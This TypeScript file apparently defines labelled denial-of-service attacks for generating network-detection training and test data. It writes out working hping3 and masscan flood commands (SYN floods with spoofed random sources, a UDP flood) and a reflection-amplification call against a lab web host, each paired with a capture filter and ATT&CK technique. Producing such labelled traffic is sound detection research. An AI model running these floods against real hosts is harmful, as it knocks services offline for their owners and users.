import { GATEWAY, WEB } from '../hosts.js';
import { OUTSIDE, own, type SetAttack } from './set_attack.js';

const SYNS_PER_SECOND = 1000;
const DATAGRAMS_PER_SECOND = 1000;
const AMPLIFIED_PER_SECOND = 600;

const syns = {
  kind: 'syn_flood',
  stage: 'impact',
  technique: 'T1499.001',
  techniqueName: 'Endpoint Denial of Service: OS Exhaustion Flood',
  victims: [WEB.address],
  host: 'outsider',
  seconds: 12,
} as const;

const datagrams = {
  kind: 'udp_flood',
  stage: 'impact',
  technique: 'T1498.001',
  techniqueName: 'Network Denial of Service: Direct Network Flood',
  victims: [WEB.address],
  host: 'outsider',
  seconds: 12,
  attackers: [OUTSIDE],
} as const;

export const FLOODS: readonly SetAttack[] = [
  {
    ...syns,
    name: 'syn_flood-hping3',
    tool: 'hping3',
    split: 'tune',
    attackers: [],
    command: ({ intensity }) => [
      ...['hping3', '-q', '-n', '-S', '-p', '80', '--rand-source'],
      ...['-i', gapUs(SYNS_PER_SECOND * intensity), WEB.address],
    ],
    // Real systems send options with a SYN, hping3 sends none; what is sent back leaves the office.
    filter:
      `ether src ${GATEWAY.mac} and dst host ${WEB.address} and tcp dst port 80 ` +
      'and tcp[tcpflags] = tcp-syn and tcp[12] & 0xf0 = 0x50',
  },
  {
    ...syns,
    name: 'syn_flood-masscan',
    tool: 'masscan',
    split: 'test',
    attackers: [OUTSIDE],
    // The same port of the same host again and again, from ever other ports.
    command: ({ intensity }) => [
      ...['masscan', '-e', 'eth0', '-p', '80', '--infinite', '--source-port', '1024-33791'],
      ...['--rate', String(SYNS_PER_SECOND * intensity), WEB.address],
    ],
    filter: `host ${OUTSIDE.address} and host ${WEB.address} and tcp port 80`,
  },
  {
    ...datagrams,
    name: 'udp_flood-hping3',
    tool: 'hping3',
    split: 'tune',
    command: ({ intensity }) => [
      ...['hping3', '-q', '-n', '--udp', '-p', '80', '-d', '400'],
      ...['-i', gapUs(DATAGRAMS_PER_SECOND * intensity), WEB.address],
    ],
    filter: `host ${OUTSIDE.address} and host ${WEB.address} and (udp or icmp)`,
  },
  {
    ...datagrams,
    name: 'udp_flood-amplifiers',
    tool: 'own amplifiers',
    split: 'test',
    technique: 'T1498.002',
    techniqueName: 'Network Denial of Service: Reflection Amplification',
    host: 'internet',
    // Fifty sockets take a busy machine seconds.
    seconds: 20,
    attackers: [],
    command: ({ intensity }) => own('amplifiers', WEB.address, AMPLIFIED_PER_SECOND * intensity),
    filter: `net 198.51.100.0/24 and host ${WEB.address} and (udp or icmp)`,
  },
];

function gapUs(perSecond: number): string {
  return `u${Math.round(1e6 / perSecond)}`;
}
